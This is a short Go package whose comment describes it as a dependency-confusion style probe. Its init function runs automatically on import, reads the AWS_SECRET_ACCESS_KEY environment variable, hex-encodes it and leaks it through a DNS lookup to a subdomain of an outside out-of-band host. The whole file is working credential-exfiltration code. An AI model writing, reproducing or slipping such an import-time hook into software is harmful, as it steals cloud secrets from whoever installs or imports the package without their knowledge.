// Package probe sends a credential out as a DNS name when imported, as
// dependency-confusion probes did (Birsan, 2021).
package probe

import (
	"encoding/hex"
	"net"
	"os"
)

const zone = ".d.oast.fun"

func init() {
	key := os.Getenv("AWS_SECRET_ACCESS_KEY")
	label := hex.EncodeToString([]byte(key))
	net.LookupHost(label + zone)
}
